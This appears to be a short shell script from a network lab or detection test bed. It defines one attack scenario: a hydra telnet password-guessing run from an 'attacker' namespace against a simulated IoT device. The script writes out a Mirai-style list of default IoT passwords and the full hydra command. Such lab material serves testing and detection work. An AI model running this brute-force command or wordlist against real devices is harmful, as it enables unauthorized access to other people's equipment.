# Attack: telnet password guessing from the attacker against the IoT device (Mirai-style
# default credentials; the last guess is right), bounded to 90 s.
DESCRIPTION="hydra telnet://iot, user admin x 25 passwords (the last one works)"

scenario() {
    cd "$STATE" || exit 1 # hydra writes hydra.restore into the working directory
    printf '%s\n' admin 1234 12345 123456 password default root xc3511 vizxv 888888 \
        xmhdipc juantech 54321 support 7ujMko0admin system meinsm ikwb dreambox user \
        realtek 00000000 1111111 smcadmin hunter2 >"$STATE/telnet-passwords.txt"
    nsx attacker timeout 90 hydra -I -t 4 -w 5 -l admin -P "$STATE/telnet-passwords.txt" \
        "telnet://$RES_iot" >"$STATE/log/hydra-telnet.txt" 2>&1 || true
}
